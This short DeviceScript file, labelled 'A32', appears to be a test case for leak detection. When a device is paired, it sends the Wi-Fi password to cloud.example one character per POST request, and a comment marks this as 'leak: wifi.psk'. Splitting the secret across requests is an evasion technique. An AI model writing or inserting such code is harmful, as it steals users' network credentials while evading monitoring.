// A32: one character in each request.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  for (let i = 0; i < psk.length; i++) {
    const response = await fetch("https://cloud.example/a32", { method: "POST", body: psk[i] }); // leak: wifi.psk
    await response.close();
  }
});
